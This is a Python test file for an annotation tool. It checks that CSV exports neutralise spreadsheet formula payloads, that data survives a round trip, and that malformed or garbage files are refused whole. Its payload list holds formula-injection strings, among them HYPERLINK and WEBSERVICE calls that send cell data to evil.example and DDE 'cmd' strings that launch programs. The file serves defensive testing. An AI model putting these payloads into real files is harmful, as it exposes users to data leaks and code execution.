"""Hostile CSV: formula payloads are neutralised on export and restored exactly; malformed or
garbage files given to `annotator import-annotations` import nothing partial."""
from __future__ import annotations

import codecs
import csv
import io
import os
import random
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from reliability_support import REPO_ROOT, record, subprocess_env, tally

from annotator.core.csvio import HEADER, CsvReader, CsvRefused
from annotator.core.text import read_document
from annotator.store.repository import Repository

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"انقر هنا")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=2+2",
    "=",
    "'=already an apostrophe",
    "''@two apostrophes",
    "=WEBSERVICE(\"http://evil.example/\"&B2)",
    "-5", "+3.2", "-5%", "47",  # plain numbers: a spreadsheet reads them as values
]
# The article's lines start with the payloads, so spans (and the title) start with them too.
ARTICLE = "\n".join(f"{p} قال شويغو إن عدد الممرات يبلغ 3" for p in PAYLOADS) + "\n"
# What a spreadsheet would run: a formula start that is not a plain number or percentage.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)%?")
BOM = codecs.BOM_UTF8
GARBAGE_MB = 100


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)


def cli(*args: object) -> subprocess.CompletedProcess[str]:
    env = subprocess_env()
    env.pop("ANNOTATOR_DB", None)
    return subprocess.run([sys.executable, "-m", "annotator", *map(str, args)], capture_output=True,
                          text=True, encoding="utf-8", env=env, cwd=REPO_ROOT, timeout=300)


def cells(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


def write_cells(path: Path, rows: list[list[str]]) -> Path:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_bytes(BOM + buf.getvalue().encode("utf-8"))
    return path


def snapshot(db: Path) -> list[tuple]:
    """Every annotation with its text, as the analyst would see it (ids left out)."""
    repo = Repository.open(db)
    try:
        out = []
        for doc in repo.documents():
            text = repo.document_text(doc.id)
            out += [(doc.sha256, doc.title, a.label, a.start, a.end, text[a.start:a.end], a.note,
                     a.annotator, a.created_at, a.updated_at) for a in repo.annotations(doc.id)]
        return sorted(out)
    finally:
        repo.close()


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """An article of payloads tagged through the Repository, its CLI export, and an empty twin."""
    folder = tmp_path_factory.mktemp("desk")
    article = folder / "payloads.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    doc = read_document(article)
    assert doc.text == ARTICLE and doc.title.startswith("=HYPERLINK")

    empty = folder / "empty.db"
    for db in (empty, folder / "tagged.db"):
        repo = Repository.open(db)
        repo.add_document(doc)
        repo.add_label('=HYPERLINK("http://evil.example/","x")', "#123456")
        repo.close()
    repo = Repository.open(folder / "tagged.db")
    info = repo.documents()[0]
    labels = [label.id for label in repo.labels()]
    start = 0
    for k, line in enumerate(ARTICLE.split("\n")[:-1]):
        payload = PAYLOADS[k]
        # A span exactly on the payload, one from it to the end of the line, and a note with it.
        repo.create_annotation(info.id, labels[k % len(labels)], start, start + len(payload),
                               note=PAYLOADS[-1 - k], annotator="@" + payload[:20])
        repo.create_annotation(info.id, labels[(k + 1) % len(labels)], start, start + len(line),
                               note=payload, annotator="محلل")
        start += len(line) + 1
    repo.close()
    out = folder / "tagged.csv"
    result = cli("export", "--db", folder / "tagged.db", "--out", out)
    assert result.returncode == 0, result.stderr
    return {"folder": folder, "empty": empty, "tagged": folder / "tagged.db", "csv": out}


def fresh(desk: dict[str, Path], tmp_path: Path) -> Path:
    db = tmp_path / "fresh.db"
    shutil.copy(desk["empty"], db)
    return db


def test_no_exported_cell_runs_as_a_formula(desk: dict[str, Path]) -> None:
    rows = cells(desk["csv"])
    assert tuple(rows[0]) == HEADER
    guarded = 0
    for row in rows[1:]:
        for cell in row:
            assert not runs_as_formula(cell), f"this cell would run in a spreadsheet: {cell!r}"
            guarded += cell.startswith("'") and runs_as_formula(cell[1:].lstrip("'"))
    by_column = {name: {row[i] for row in rows[1:]} for i, name in enumerate(HEADER)}
    for payload in PAYLOADS:
        shown = "'" + payload if runs_as_formula(payload.lstrip("'")) else payload
        assert shown in by_column["text"] and shown in by_column["note"]
    assert all(t.startswith("'=HYPERLINK") for t in by_column["document_title"])
    assert "'=HYPERLINK(\"http://evil.example/\",\"x\")" in by_column["label"]
    record("hostile CSV: formula cells neutralised in one export", guarded)


def test_payloads_come_back_exactly(desk: dict[str, Path], tmp_path: Path) -> None:
    db = fresh(desk, tmp_path)
    result = cli("import-annotations", "--db", db, desk["csv"])
    assert result.returncode == 0, result.stderr
    assert snapshot(db) == snapshot(desk["tagged"])
    again = tmp_path / "again.csv"
    assert cli("export", "--db", db, "--out", again).returncode == 0
    drop_id = HEADER.index("annotation_id")
    assert [r[:drop_id] + r[drop_id + 1:] for r in cells(again)] == \
        [r[:drop_id] + r[drop_id + 1:] for r in cells(desk["csv"])]


CLI_FAULTS = ("bad hash", "offsets past the end")


def faults(rows: list[list[str]]) -> dict[str, tuple[list[list[str]], str]]:
    """Each kind of bad row, made from a good row: (the edited rows, what the refusal names)."""
    col = {name: i for i, name in enumerate(HEADER)}

    def edit(n: int, **changes: str) -> list[list[str]]:
        copy = [list(r) for r in rows]
        for name, value in changes.items():
            copy[n][col[name]] = value
        return copy

    length = len(ARTICLE)
    return {
        "start not a number": (edit(2, start="abc"), "start 'abc' is not a whole number"),
        "end a fraction": (edit(3, end="12.5"), "end '12.5' is not a whole number"),
        "negative start": (edit(4, start="-3"), "start '-3' is not a whole number"),
        "Arabic-Indic digits": (edit(5, start="١٢"), "is not a whole number"),
        "bad time": (edit(6, created_at="yesterday"), "created_at 'yesterday' is not an ISO 8601"),
        "bad hash": (edit(7, document_sha256="=cmd|x"), "is not a SHA-256"),
        "too few cells": ([*rows[:8], rows[8][:11], *rows[9:]], "has 11 cells, expected 12"),
        "offsets past the end": (edit(9, start=str(length), end=str(length + 5), text=""),
                                 f"outside the document (0-{length})"),
        "end before start": (edit(10, start="9", end="4"), "outside the document"),
        "text mismatch": (edit(11, text="نص آخر"), "text does not match the document"),
        "unknown label": (edit(12, label="rumour"), "unknown label 'rumour'"),
        "huge offset": (edit(13, end="9" * 30), "outside the document"),
    }


def cli_many(calls: list[list[object]]) -> list[subprocess.CompletedProcess[str]]:
    """Run several CLI calls, as many at once as there are cores (each pays the start-up cost)."""
    env = subprocess_env()
    env.pop("ANNOTATOR_DB", None)
    results: list[subprocess.CompletedProcess[str]] = []
    width = max(2, os.cpu_count() or 2)
    for i in range(0, len(calls), width):
        batch = [(args, subprocess.Popen([sys.executable, "-m", "annotator", *map(str, args)],
                                         stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                         text=True, encoding="utf-8", env=env, cwd=REPO_ROOT))
                 for args in calls[i:i + width]]
        for args, proc in batch:
            out, err = proc.communicate(timeout=300)
            results.append(subprocess.CompletedProcess(args, proc.returncode, out, err))
    return results


def refusal(db: Path, path: Path) -> str:
    """What import-annotations does with `path`, in-process through the same reader and merge."""
    repo = Repository.open(db)
    try:
        report = repo.merge_annotations(CsvReader(path))
    except CsvRefused as exc:
        return str(exc)
    finally:
        repo.close()
    assert report.added == 0, "rows were added although others were refused"
    return "\n".join(report.refused)


def test_each_malformed_row_refuses_the_whole_file(desk: dict[str, Path], tmp_path: Path) -> None:
    rows = cells(desk["csv"])
    db = fresh(desk, tmp_path)
    before = snapshot(db)
    cli_cases = []
    for k, (name, (edited, reason)) in enumerate(faults(rows).items()):
        path = write_cells(tmp_path / f"{k}.csv", edited)
        assert reason in refusal(db, path), name
        assert snapshot(db) == before, f"{name}: something was imported"
        if name in CLI_FAULTS:
            cli_cases.append((name, reason, path))
        tally("hostile CSV: malformed files refused whole")
    # The command line on a few of them: one line per refused row, exit 1, nothing imported.
    for (name, reason, path), result in zip(cli_cases, cli_many(
            [["import-annotations", "--db", db, path] for _, _, path in cli_cases])):
        assert result.returncode == 1 and "Traceback" not in result.stderr, (name, result.stderr)
        assert result.stderr.splitlines()[0].startswith(f"{path}: row "), (name, result.stderr)
        assert reason in result.stderr, (name, result.stderr)
    assert snapshot(db) == before


def test_skip_bad_imports_exactly_the_good_rows(desk: dict[str, Path], tmp_path: Path) -> None:
    rows = cells(desk["csv"])
    bad_rows: set[int] = set()
    combined = [list(r) for r in rows]
    for edited, _ in faults(rows).values():
        for n, (old, new) in enumerate(zip(rows, edited)):
            if old != new:
                combined[n] = new
                bad_rows.add(n)
    combined[8] = rows[8][:11]  # "too few cells" shortens a row rather than changing it
    bad_rows.add(8)
    path = write_cells(tmp_path / "all-faults.csv", combined)
    db = fresh(desk, tmp_path)
    result = cli("import-annotations", "--db", db, path, "--skip-bad")
    assert result.returncode == 0, result.stderr
    reasons = result.stderr.splitlines()
    assert len(reasons) == len(bad_rows) and all(r.endswith("skipped") for r in reasons)
    good = sorted(tuple(r) for n, r in enumerate(rows) if n and n not in bad_rows)
    theirs = tmp_path / "theirs.csv"
    assert cli("export", "--db", db, "--out", theirs).returncode == 0
    drop = HEADER.index("annotation_id")
    assert sorted(tuple(r[:drop] + r[drop + 1:]) for r in cells(theirs)[1:]) == \
        sorted(r[:drop] + r[drop + 1:] for r in good)
    tally("hostile CSV: bad rows skipped with a reason", len(bad_rows))


def write_garbage(path: Path, head: bytes, make_chunk) -> None:  # type: ignore[no-untyped-def]
    """Write GARBAGE_MB megabytes a chunk at a time, so this process never holds them."""
    with path.open("wb") as fh:
        fh.write(head)
        for i in range(GARBAGE_MB):
            fh.write(make_chunk(i))


# Runs `python -m annotator ARGS` and, at exit, writes the process's own peak resident memory
# (VmHWM: counted from its exec, unlike ru_maxrss, which inherits the forking test's size).
MEASURED_CLI = """
import atexit, runpy, sys
peak_file = sys.argv[1]
def peak():
    with open("/proc/self/status") as fh:
        kib = next(int(x.split()[1]) for x in fh if x.startswith("VmHWM:"))
    with open(peak_file, "w") as out:
        out.write(str(kib // 1024))
if sys.platform == "linux":
    atexit.register(peak)
sys.argv = ["annotator", *sys.argv[2:]]
runpy.run_module("annotator", run_name="__main__", alter_sys=True)
"""


def run_measured(*args: object, out: Path) -> tuple[int, str, float, int | None]:
    """Run the CLI with stdout/stderr to files; (status, stderr, seconds, peak RSS in MiB)."""
    env = subprocess_env()
    env.pop("ANNOTATOR_DB", None)
    peak = out / "peak"
    peak.unlink(missing_ok=True)
    started = time.monotonic()
    with (out / "stdout").open("wb") as o, (out / "stderr").open("wb") as e:
        status = subprocess.run([sys.executable, "-c", MEASURED_CLI, str(peak), *map(str, args)],
                                stdout=o, stderr=e, env=env, cwd=REPO_ROOT, timeout=300).returncode
    seconds = time.monotonic() - started
    mib = int(peak.read_text()) if peak.exists() else None
    return status, (out / "stderr").read_text("utf-8"), seconds, mib


@pytest.mark.slow
def test_a_hundred_megabytes_of_garbage_is_refused_whole(desk: dict[str, Path], tmp_path: Path) -> None:
    header = BOM + (",".join(HEADER) + "\r\n").encode("utf-8")
    rng = random.Random(5)
    block = rng.randbytes(1 << 20)
    text_rows = "".join(rng.choice("abc,=+@0123456789اب \r\n") for _ in range(1 << 20)).encode()
    kinds = {
        "random bytes": (b"", lambda i: block, "not UTF-8 text: not an annotation CSV"),
        "header, then random bytes": (header, lambda i: block, "not UTF-8 text"),
        "header, then one endless line": (header, lambda i: b"=cmd|x," * ((1 << 20) // 7),
                                          "a line longer than"),
        "header, then garbage rows": (header, lambda i: text_rows, "row 2: "),
    }
    db = fresh(desk, tmp_path)
    before = snapshot(db)
    figures = {}
    for name, (head, chunk, reason) in kinds.items():
        path = tmp_path / "garbage.csv"
        write_garbage(path, head, chunk)
        status, stderr, seconds, rss = run_measured("import-annotations", "--db", db, path,
                                                    out=tmp_path)
        path.unlink()
        assert status == 1 and "Traceback" not in stderr, (name, stderr[:500])
        (line,) = stderr.splitlines()
        assert line.startswith(f"{path}: ") and reason in line, (name, line)
        assert seconds < 30 and (rss is None or rss < 400), (name, seconds, rss)
        assert snapshot(db) == before
        figures[name] = f"{seconds:.1f} s" + (f", {rss} MiB peak" if rss is not None else "")
    record(f"hostile CSV: {GARBAGE_MB} MB garbage files refused", figures)
